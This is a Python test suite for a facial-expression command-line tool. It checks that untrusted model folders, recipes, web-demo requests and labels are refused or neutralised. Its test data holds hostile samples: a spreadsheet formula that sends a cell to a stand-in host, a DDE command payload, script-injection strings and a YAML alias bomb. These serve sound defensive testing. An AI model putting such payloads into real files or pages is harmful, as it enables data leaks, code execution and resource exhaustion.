"""What a hostile or careless user can do to the commands: each case is refused with one line
(exit 2, or 1 for per-item failures) or handled, never a traceback, an unbounded allocation or
a silently wrong number. Every input is generated; each case takes well under 5 s and 1 GB.

The table :data:`CASES` holds the command-line cases; the cases that need a server, a second
process or a look inside the written files follow it as their own tests.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from glamor_zoo_cli import main

DATA = Path(__file__).parent / "data"
FACE = DATA / "deep_emotion_face_happy.png"
QUICK = ["--no-progress"]


@pytest.fixture(scope="module")
def face_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A saved tiny face-only model (deep_emotion, random weights)."""
    import torch

    import glamor_zoo
    from glamor_zoo.serialization import save_pretrained

    torch.manual_seed(0)
    return save_pretrained(
        glamor_zoo.create_model("deep_emotion"), tmp_path_factory.mktemp("m") / "deep_emotion"
    )


@dataclass(frozen=True)
class Case:
    """One command line: ``argv(tmp, model)`` is run; its exit code and stderr are checked."""

    name: str
    argv: Callable[[Path, Path], list[str]]
    code: int
    message: str


def _face(tmp: Path) -> str:
    shutil.copy(FACE, tmp / "face.png")
    return str(tmp / "face.png")


def _folder(tmp: Path, model: Path, config=None, nan: bool = False) -> str:
    """A copy of ``model`` with ``config`` (a function of its config.json) and NaN weights."""
    import json

    folder = tmp / "model"
    shutil.copytree(model, folder)
    if config is not None:
        path = folder / "config.json"
        path.write_text(json.dumps(config(json.loads(path.read_text()))))
    if nan:
        from safetensors.torch import load_file, save_file

        weights = load_file(folder / "model.safetensors")
        name = sorted(k for k, v in weights.items() if v.is_floating_point())[-1]
        weights[name] = weights[name].clone().fill_(float("nan"))
        save_file(weights, folder / "model.safetensors", metadata={"format": "pt"})
    return f"local-dir:{folder}"


def _file(tmp: Path) -> str:
    (tmp / "a-file").write_text("not a folder")
    return str(tmp / "a-file")


def _wide(config: dict) -> dict:
    return {**config["model_args"], "hidden_dim": 10**9}


def _huge_faces(config: dict) -> dict:
    config["spec"]["face_size"] = [300_000, 300_000]
    return config


def _saliency(tmp: Path, model: Path, *more: str) -> list[str]:
    return ["saliency", _face(tmp), "--model", f"local-dir:{model}", "--out-dir", str(tmp), *more]


def _recipe(tmp: Path, content: bytes, *overrides: str) -> list[str]:
    (tmp / "recipe.yaml").write_bytes(content)
    return ["train", "--config", str(tmp / "recipe.yaml"), f"data.root={tmp}", *overrides]


# 504 bytes of nested aliases: 9 levels of 9, about 10**9 strings once expanded.
ALIAS_BOMB = b'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + b"".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n".encode()
    for i in range(8)
)
TINY_RECIPE = b"model: {name: glamor_test}\nrun: {epochs: 1}\n"


def _predict(tmp: Path, model: str, *more: str) -> list[str]:
    return ["predict", _face(tmp), "--model", model, "--no-fast", *QUICK, *more]


def _none(tmp: Path, model: str, *more: str) -> list[str]:
    return _predict(tmp, model, "--detector", "none", *more)


CASES: list[Case] = [
    # item 6: an untrusted model folder is checked, not believed
    Case(
        "nan-weights",
        lambda t, m: _none(t, _folder(t, m, nan=True)),
        2,
        "holds NaN or Inf",
    ),
    Case(
        "float-num-classes",
        lambda t, m: _none(t, _folder(t, m, lambda c: {**c, "num_classes": 7.5})),
        2,
        "'num_classes' must be a whole number from 1 to 100,000, got 7.5",
    ),
    Case(
        "config-is-a-list",
        lambda t, m: _none(t, _folder(t, m, lambda c: [1, 2])),
        2,
        "config.json must be a JSON object, got a list",
    ),
    Case(
        "config-asks-for-a-billion-classes",
        lambda t, m: _none(t, _folder(t, m, lambda c: {**c, "num_classes": 10**9})),
        2,
        "'num_classes' must be a whole number from 1 to 100,000, got 1000000000",
    ),
    Case(
        "config-asks-for-huge-inputs",
        lambda t, m: _none(t, _folder(t, m, _huge_faces)),
        2,
        "'face_size' must be whole numbers of pixels from 1 to 4096, got [300000, 300000]",
    ),
    Case(
        "eval-output-not-writable",
        lambda t, m: ["eval", f"local-dir:{m}", str(t), "--output", _file(t) + "/out", *QUICK],
        2,
        "cannot be written: Not a directory",
    ),
    Case(
        "train-output-not-writable",
        lambda t, m: _recipe(t, TINY_RECIPE, f"run.output_dir={_file(t)}/out"),
        2,
        "cannot be written: Not a directory",
    ),
    Case(
        "detect-output-not-writable",
        lambda t, m: ["detect", str(t), "--out", _file(t) + "/out", "--detector", "none", *QUICK],
        2,
        "cannot be written: Not a directory",
    ),
    # item 2: sizes a user gives are bounded
    Case(
        "saliency-scale-2000",
        lambda t, m: _saliency(t, m, "--scale", "2000"),
        2,
        "over the 16,777,216 allowed: use a scale of at most",
    ),
    Case("saliency-scale-0", lambda t, m: _saliency(t, m, "--scale", "0"), 2, "--scale must be"),
    Case("recipe-alias-bomb", lambda t, m: _recipe(t, ALIAS_BOMB), 2, "aliases (*name) are not"),
    Case(
        "recipe-too-big",
        lambda t, m: _recipe(t, b"#" * (2 << 20)),
        2,
        "over the 1,048,576 a recipe may have",
    ),
    # item 7: one line, never a traceback
    Case("recipe-is-a-list", lambda t, m: _recipe(t, b"- 1\n- 2\n"), 2, "must be a mapping"),
    Case("recipe-not-utf8", lambda t, m: _recipe(t, b"run: {name: \xff}\n"), 2, "is not UTF-8"),
    Case(
        "lr-1e300",
        lambda t, m: _recipe(t, TINY_RECIPE, "optim.lr=1e300"),
        2,
        "optim.lr=1e+300: must be from 0 to 100",
    ),
    Case(
        "fps-nan",
        lambda t, m: _none(t, f"local-dir:{m}", "--fps", "nan"),
        2,
        "--fps must be a positive number, got nan",
    ),
    Case(
        "min-score-nan",
        lambda t, m: _predict(t, f"local-dir:{m}", "--min-score", "nan"),
        2,
        "score threshold must be a number, got nan",
    ),
    Case(
        "saliency-inverted-box",
        lambda t, m: _saliency(t, m, "--box", "10,10,5,5"),
        2,
        "a box needs x2 > x1 and y2 > y1",
    ),
    Case(
        "config-asks-for-a-huge-model",
        lambda t, m: _none(t, _folder(t, m, lambda c: {**c, "model_args": _wide(c)})),
        2,
        "over the limit of 200,000,000 (set $GLAMOR_ZOO_MAX_PARAMETERS",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_command_line_case(case: Case, tmp_path: Path, face_model: Path, capsys) -> None:
    code = main(case.argv(tmp_path, face_model))
    err = capsys.readouterr().err
    assert code == case.code, err
    assert case.message in err
    assert "Traceback" not in err


def test_recipe_mixed_precision_no_is_the_mode_and_workers_are_capped(tmp_path: Path) -> None:
    import os

    from glamor_zoo.train.config import load_config

    (tmp_path / "recipe.yaml").write_bytes(TINY_RECIPE + b"data: {num_workers: 1000}\n")
    overrides = [f"data.root={tmp_path}", "run.mixed_precision=no"]
    config = load_config(tmp_path / "recipe.yaml", overrides)
    assert config.run.mixed_precision == "no"
    assert config.data.workers() == (os.cpu_count() or 1)


def test_the_parameter_budget_can_be_raised_and_lowered(monkeypatch, face_model: Path) -> None:
    from glamor_zoo.inference import ModelLoadError, load_model

    monkeypatch.setenv("GLAMOR_ZOO_MAX_PARAMETERS", "1000")
    with pytest.raises(ModelLoadError, match="over the limit of 1,000"):
        load_model(f"local-dir:{face_model}")
    monkeypatch.setenv("GLAMOR_ZOO_MAX_PARAMETERS", "100_000")
    assert load_model(f"local-dir:{face_model}").model is not None


# ----------------------------------------------------------------- the default model


def test_every_command_loads_the_librarys_default_model(monkeypatch, tmp_path: Path) -> None:
    from glamor_zoo.inference import loading

    asked = []

    def spy(model=None, pretrained=None):
        asked.append(model)
        raise loading.ModelLoadError("spy: not loading")

    monkeypatch.setattr(loading, "load_model", spy)
    assert main(["saliency", _face(tmp_path), "--out-dir", str(tmp_path)]) == 2
    assert asked == [None]  # None is DEFAULT_MODEL, decided in the library


@pytest.mark.parametrize("command", ["predict", "saliency", "demo"])
def test_help_names_no_tag_as_the_default(command: str, capsys) -> None:
    assert main([command, "--help"]) == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "the packaged default model" in text
    assert ".fer2013" not in text


# ----------------------------------------------------------------- the demo's fetch guard

# Every spelling FastAPI (no Content-Type, any letter case, any +json type) or a route that
# calls request.json() whatever the header (Gradio's component server) would parse as JSON.
JSON_CONTENT_TYPES = [
    None,
    "application/json",
    "Application/JSON",
    "APPLICATION/JSON; charset=utf-8",
    "application/vnd.foo+json",
    "application/merge-patch+JSON",
    "text/plain",
    "application/x-www-form-urlencoded",
    "Multipart/Form-Data; boundary=x",
    "multipart/form-data; boundary=x",
]
EVENT_ROUTES = ["gradio_api/call/predict", "gradio_api/queue/join", "gradio_api/component_server"]


@pytest.fixture(scope="module")
def demo_server():
    pytest.importorskip("gradio", reason="the web demo needs the demo extra")
    from demo_server import no_outbound, served_demo

    with no_outbound() as outbound, served_demo() as (_, url):
        yield url, outbound
    assert outbound.attempts == [], f"the demo tried to reach {outbound.attempts}"


@pytest.mark.parametrize("route", EVENT_ROUTES)
@pytest.mark.parametrize("content_type", JSON_CONTENT_TYPES)
def test_demo_refuses_a_url_file_whatever_the_content_type(
    demo_server, route: str, content_type: str | None
) -> None:
    import json

    import httpx

    url, outbound = demo_server
    remote = {"path": "http://example.com/x.jpg", "meta": {"_type": "gradio.FileData"}}
    event = {"data": [remote, None, None, None, None], "fn_index": 0, "session_hash": "s"}
    event |= {"component_id": 1, "fn_name": "x", "event_data": None, "trigger_id": None}
    for body in (json.dumps(event).encode(), json.dumps(event).encode("utf-16"), b"\n " * 9):
        if body.strip() == b"":
            body = body + json.dumps(event).encode()
        headers = {} if content_type is None else {"Content-Type": content_type}
        with httpx.Client(base_url=url, timeout=30) as http:
            response = http.post(route, content=body, headers=headers)
        assert response.status_code == 403, (route, content_type, response.text)
    assert outbound.attempts == []


def test_demo_multipart_uploads_still_pass_and_big_json_is_refused(demo_server) -> None:
    import httpx

    url, _ = demo_server
    with httpx.Client(base_url=url, timeout=30) as http:
        with FACE.open("rb") as fh:
            response = http.post("gradio_api/upload", files={"files": fh})
        assert response.status_code == 200 and len(response.json()) == 1
        big = b'{"data": ["' + b"x" * (2 << 20) + b'"]}'
        assert http.post("gradio_api/call/predict", content=big).status_code == 413
        deep = b"[" * 100_000 + b"]" * 100_000  # no JSON parser takes it: passed on, refused there
        assert http.post("gradio_api/call/predict", content=deep).status_code != 200


# ----------------------------------------------------------------- labels from an untrusted config

HOSTILE_LABELS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "<script>alert(1)</script>",
    "-12",
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "'=already quoted",
    "happy",
]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+2", "'-1+2"),
        ("@A1", "'@A1"),
        ("\t=x", "'\t=x"),
        ("\uff1dx", "'\uff1dx"),
        ("'=x", "''=x"),
        ("-12", "-12"),
        ("+3.5e-2", "+3.5e-2"),
        ("'abc", "'abc"),
        ("face.png", "face.png"),
        (-12, -12),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_csv_cells_are_neutralised_losslessly(cell, written) -> None:
    from glamor_zoo.csv_cells import neutralize_cell, restore_cell

    assert neutralize_cell(cell) == written
    if isinstance(cell, str):
        assert restore_cell(written) == cell


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import glamor_zoo
    from glamor_zoo.serialization import save_pretrained

    folder = tmp_path_factory.mktemp("m") / "hostile"
    return save_pretrained(glamor_zoo.create_model("deep_emotion"), folder, HOSTILE_LABELS)


def test_hostile_labels_are_inert_in_predicts_csv(hostile_model: Path, tmp_path: Path, capsys):
    import csv
    import io

    face = _face(tmp_path)
    argv = ["predict", face, "--model", f"local-dir:{hostile_model}", "--detector", "none"]
    assert main([*argv, "--format", "csv", "--no-fast", *QUICK]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-1+")]
    from glamor_zoo.csv_cells import restore_cell

    assert restore_cell(rows[1][rows[0].index("label")]) in HOSTILE_LABELS


def test_hostile_labels_are_inert_in_evals_csv(hostile_model: Path, tmp_path: Path) -> None:
    import csv
    import io

    from glamor_zoo.train.compare import load_predictions

    data = tmp_path / "data"
    (data / "test" / "happy").mkdir(parents=True)
    for i in range(2):
        shutil.copy(FACE, data / "test" / "happy" / f"=cmd{i}.png")
    out = tmp_path / "eval"
    argv = ["eval", f"local-dir:{hostile_model}", str(data), "--detector", "none"]
    assert main([*argv, "--output", str(out), *QUICK]) in (0, 1)
    text = (out / "predictions.csv").read_text()
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert not [c for c in row if c[:1] in ("=", "+", "@")], row
    paths, targets, _, classes = load_predictions(out)
    assert [Path(p).name for p in paths] == ["=cmd0.png", "=cmd1.png"]
    assert classes[:-1] == HOSTILE_LABELS[:-1] and targets == [classes[-1]] * 2


def test_hostile_labels_are_escaped_in_the_model_card(hostile_model: Path) -> None:
    import json

    from glamor_zoo.hub.card import render_model_card

    config = json.loads((hostile_model / "config.json").read_text())
    config["pretrained_cfg"]["description"] = "<img src=x onerror=alert(1)>"
    config["command"] = "```\n<script>alert(2)</script>"
    card = render_model_card(config, "org/x")
    body = card.split("---", 2)[2]
    assert "<script>" not in body.replace("```\n<script>alert(2)", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert "<img" not in body and "&lt;img src=x" in body
    assert "````bash\n```\n<script>alert(2)</script>\n````" in body


# ----------------------------------------------------------------- file names that are not UTF-8


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_non_utf8_file_name_is_kept_and_the_run_completes(
    fmt: str, face_model: Path, tmp_path: Path, capsys
) -> None:
    import json
    import os

    from glamor_zoo.inference.journal import read_journal

    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(FACE, folder / "ok.png")
    odd = os.fsdecode(os.fsencode(str(folder)) + b"/caf\xe9.png")
    shutil.copy(FACE, odd)
    out = tmp_path / "out"
    argv = _predict(tmp_path, f"local-dir:{face_model}", "--detector", "none")
    argv[1:2] = [str(folder)]
    argv += ["--output", str(out), "--format", fmt]
    assert main(argv) == 0, capsys.readouterr().err
    keys = {r["input"] for r in read_journal(out / "predictions.jsonl")}
    assert odd in keys  # the same name, byte for byte
    if fmt == "json":
        assert odd in {r["input"] for r in json.loads((out / "predictions.json").read_text())}
    else:
        assert "caf\\xe9.png" in (out / "predictions.csv").read_text(encoding="utf-8")
    assert main(argv) == 0  # a rerun resumes and finishes too
    assert "2 finished inputs kept" in capsys.readouterr().err


# ----------------------------------------------------------------- one writer per output folder


def test_a_second_writer_is_refused_and_a_killed_ones_lock_never_blocks(
    face_model: Path, tmp_path: Path, capsys
) -> None:
    import signal
    import subprocess
    import sys

    out = tmp_path / "out"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from glamor_zoo.outputs import OutputLock; "
            f"OutputLock({str(out)!r}).acquire(); print('held', flush=True); time.sleep(60)",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        argv = [*_none(tmp_path, f"local-dir:{face_model}"), "--output", str(out), "--overwrite"]
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert f"is being written by process {holder.pid}" in err and "Traceback" not in err
        assert not (out / "predictions.json").exists()
        holder.send_signal(signal.SIGKILL)  # kill -9: the kernel drops its lock
        holder.wait(timeout=10)
        assert main(argv) == 0
        assert (out / "predictions.json").exists()
    finally:
        holder.kill()
        holder.wait(timeout=10)


def test_an_output_folder_that_cannot_be_written_is_one_line(
    face_model: Path, tmp_path: Path, capsys
):
    (tmp_path / "a-file").write_text("not a folder")
    argv = _none(tmp_path, f"local-dir:{face_model}", "--output", str(tmp_path / "a-file" / "out"))
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "cannot be written: Not a directory" in err and "Traceback" not in err


# ----------------------------------------------------------------- eval's honest counts


def test_eval_counts_unreadable_images_as_wrong(face_model: Path, tmp_path: Path, capsys) -> None:
    import csv
    import json

    data = tmp_path / "data"
    (data / "test" / "happy").mkdir(parents=True)
    (data / "test" / "sad").mkdir(parents=True)
    shutil.copy(FACE, data / "test" / "happy" / "ok.png")
    shutil.copy(FACE, data / "test" / "sad" / "ok.png")
    for name in ("happy/bad0.png", "happy/bad1.jpg", "sad/bad2.png"):
        (data / "test" / name).write_bytes(b"not an image")
    out = tmp_path / "eval"
    argv = ["eval", f"local-dir:{face_model}", str(data), "--detector", "none", "-o", str(out)]
    assert main([*argv, *QUICK]) == 1  # written, but some inputs failed
    captured = capsys.readouterr()
    assert "3 unreadable image(s), counted as wrong" in captured.err
    assert "not scored, unreadable: 3 (Happy 2, Sad 1)" in captured.out
    metrics = json.loads((out / "metrics.json").read_text())
    assert metrics["num_samples"] == 5 and metrics["num_scored"] == 2
    assert metrics["coverage"] == pytest.approx(0.4)
    assert metrics["top1"] <= 40.0  # at most the 2 readable images right, over all 5
    assert metrics["skipped"]["unreadable"]["count"] == 3
    assert metrics["skipped"]["unreadable"]["per_class"] == {"Happy": 2, "Sad": 1}
    assert metrics["support"]["Happy"] == 3 and metrics["support"]["Sad"] == 2
    with (out / "skipped.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted((Path(r["path"]).name, r["target"], r["reason"]) for r in rows) == [
        ("bad0.png", "Happy", "unreadable"),
        ("bad1.jpg", "Happy", "unreadable"),
        ("bad2.png", "Sad", "unreadable"),
    ]


# ----------------------------------------------------------------- a user's files are never replaced

TF_CHECKPOINT = Path(__file__).parent / "fixtures" / "tf_official_tiny" / "Model"


def _users_files(folder: Path, *names: str) -> dict[str, bytes]:
    """Put a user's own files ``names`` into ``folder``; returns their bytes."""
    written = {}
    for name in names:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        written[name] = f"the user's own {name}\n".encode()
        (folder / name).write_bytes(written[name])
    return written


def _unchanged(folder: Path, files: dict[str, bytes]) -> bool:
    return all((folder / name).read_bytes() == data for name, data in files.items())


OVERWRITE_CASES = {
    "convert-tf": (
        ("README.md", "config.json"),
        lambda t, m, out: ["convert-tf", str(TF_CHECKPOINT), str(out)],
    ),
    "train": (
        ("model/config.json", "metrics.json"),
        lambda t, m, out: _recipe(t, TINY_RECIPE, f"run.output_dir={out}"),
    ),
    "eval": (
        ("metrics.json",),
        lambda t, m, out: [*_eval(t, m), "-o", str(out)],
    ),
    "saliency": (
        ("face_saliency.png",),
        lambda t, m, out: [
            "saliency",
            _face(t),
            "--model",
            f"local-dir:{m}",
            "--out-dir",
            str(out),
        ],
    ),
    "push-dry-run": (
        ("config.json", "README.md"),
        lambda t, m, out: ["push", str(m), "org/x", "--dry-run", str(out)],
    ),
}


def _eval(tmp: Path, model: Path) -> list[str]:
    (tmp / "data" / "happy").mkdir(parents=True, exist_ok=True)
    shutil.copy(FACE, tmp / "data" / "happy" / "a.png")
    return [
        "eval",
        f"local-dir:{model}",
        str(tmp / "data"),
        "--split",
        "all",
        "--detector",
        "none",
        *QUICK,
    ]


@pytest.mark.parametrize("command", sorted(OVERWRITE_CASES))
def test_a_writer_never_replaces_a_users_files(
    command: str, face_model: Path, tmp_path: Path, capsys
) -> None:
    names, argv = OVERWRITE_CASES[command]
    out = tmp_path / "out"
    out.mkdir()
    mine = _users_files(out, *names)
    assert main(argv(tmp_path, face_model, out)) == 2
    err = capsys.readouterr().err
    assert "which glamor-zoo did not write: pass --overwrite" in err and "Traceback" not in err
    assert _unchanged(out, mine)


@pytest.mark.parametrize("command", ["convert-tf", "eval", "saliency", "push-dry-run"])
def test_a_writer_replaces_its_own_files_and_a_users_with_overwrite(
    command: str, face_model: Path, tmp_path: Path, capsys
) -> None:
    names, argv = OVERWRITE_CASES[command]
    out = tmp_path / "out"
    assert main(argv(tmp_path, face_model, out)) == 0  # a new folder
    assert main(argv(tmp_path, face_model, out)) == 0  # its own files, written again
    (out / "other").mkdir()
    mine = _users_files(out / "other", *names)
    assert main(argv(tmp_path, face_model, out / "other")) == 2
    assert main([*argv(tmp_path, face_model, out / "other"), "--overwrite"]) == 0
    assert not _unchanged(out / "other", mine)


def test_push_dry_run_writes_nothing_into_the_model_folder(
    face_model: Path, tmp_path: Path, capsys
) -> None:
    model = Path(shutil.copytree(face_model, tmp_path / "model"))
    before = {p.name: p.read_bytes() for p in model.iterdir()}
    for target in (model, model / "sub" / ".."):
        assert main(["push", str(model), "org/x", "--dry-run", str(target), "--overwrite"]) == 2
        err = capsys.readouterr().err
        assert "--dry-run writes nothing into the model folder" in err
    assert {p.name: p.read_bytes() for p in model.iterdir()} == before


def test_saliency_of_two_inputs_with_one_stem_writes_two_files(
    face_model: Path, tmp_path: Path, capsys
) -> None:
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        shutil.copy(FACE, tmp_path / name / "face.png")
    out = tmp_path / "maps"
    argv = ["saliency", str(tmp_path / "a" / "face.png"), str(tmp_path / "b" / "face.png")]
    assert main([*argv, "--model", f"local-dir:{face_model}", "--out-dir", str(out)]) == 0
    written = [line.split("\t")[-1] for line in capsys.readouterr().out.splitlines()]
    assert len(set(written)) == 2 and all(Path(p).is_file() for p in written)
    assert sorted(p.name for p in out.glob("*.png")) == ["face-2_saliency.png", "face_saliency.png"]


# ----------------------------------------------------------------- a full disk


def _disk_full_error(kind: str) -> Exception:
    """What a write into a full disk raises: Python's error, or safetensors' (its message as
    seen on a full tmpfs)."""
    import errno
    import os

    if kind == "safetensors":
        from safetensors import SafetensorError

        return SafetensorError(
            "Error while serializing: I/O error: No space left on device (os error 28)"
        )
    return OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize("kind", ["os", "safetensors"])
def test_a_full_disk_while_training_is_one_line(kind: str, monkeypatch, tmp_path: Path, capsys):
    from glamor_zoo.train import trainer

    def full(*args, **kwargs):
        raise _disk_full_error(kind)

    monkeypatch.setattr(trainer, "train", full)
    assert main(_recipe(tmp_path, TINY_RECIPE, f"run.output_dir={tmp_path / 'run'}")) == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and "--resume" in err and "Traceback" not in err


def test_a_full_disk_while_detecting_is_one_line(monkeypatch, tmp_path: Path, capsys) -> None:
    from glamor_zoo.data.detection import crops

    def full(path, text):
        raise _disk_full_error("os")

    (tmp_path / "photos").mkdir()
    shutil.copy(FACE, tmp_path / "photos" / "a.png")
    monkeypatch.setattr(crops, "atomic_write_text", full)
    argv = ["detect", str(tmp_path / "photos"), "--out", str(tmp_path / "crop")]
    assert main([*argv, "--detector", "none", *QUICK]) == 2
    err = capsys.readouterr().err
    assert "cannot be written: No space left on device" in err and "Traceback" not in err
    assert "run the same command again" in err
